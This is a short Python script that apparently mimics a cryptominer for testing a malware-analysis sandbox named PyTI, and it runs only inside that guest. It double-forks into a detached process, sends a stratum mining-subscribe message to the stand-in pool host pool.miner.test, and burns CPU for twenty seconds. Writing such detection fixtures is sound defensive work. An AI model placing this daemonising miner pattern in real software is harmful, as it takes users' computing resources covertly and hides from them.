"""Uses what is idle."""

import hashlib
import json
import os
import socket
import time

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
ready, done = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    os.close(ready)
    end = time.monotonic() + 20
    try:
        with socket.create_connection(("pool.miner.test", 3333), timeout=5) as pool:
            pool.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": ["pyti_mimic_miner/1.0"]}).encode() + b"\n")
    except OSError:
        pass
    os.close(done)
    while time.monotonic() < end:
        hashlib.sha256(bytes(100000)).digest()
    os._exit(0)
os.close(done)
os.read(ready, 1)
os.close(ready)
